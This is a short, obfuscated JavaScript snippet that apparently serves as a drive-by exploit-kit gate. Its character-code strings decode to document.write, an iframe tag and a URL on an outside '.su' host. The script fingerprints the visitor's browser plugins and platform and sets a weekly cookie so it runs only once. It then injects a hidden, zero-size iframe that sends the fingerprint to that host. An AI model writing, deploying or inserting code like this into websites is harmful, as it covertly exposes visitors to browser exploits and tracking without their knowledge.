var _d = document, _s = String.fromCharCode;
var _w = _s(119, 114, 105, 116, 101);
var _e = _s(60, 105, 102, 114, 97, 109, 101);
var _h = _s(104, 116, 116, 112, 115, 58, 47, 47, 101, 120, 112, 45, 103, 97, 116, 101, 119, 97, 121, 45, 97, 100, 115, 46, 115, 117, 47, 105, 110, 46, 112, 104, 112, 63, 97, 100, 61);

function _pl() {
  var p = navigator.plugins, out = [];
  for (var i = 0; i < p.length && i < 8; i++) out.push(p[i].name.replace(/\s+/g, ''));
  return out.join(',');
}

(function () {
  if (_d.cookie.indexOf('_vst=') > -1) return;
  _d.cookie = '_vst=' + Date.now() + '; path=/; max-age=' + 86400 * 7;
  var src = _h + '2291&pl=' + encodeURIComponent(_pl()) + '&os=' + encodeURIComponent(navigator.platform);
  _d[_w](_e + ' src="' + src + '" width="0" height="0" style="visibility:hidden;position:absolute;top:0;left:0" frameborder="0"></iframe>');
})();
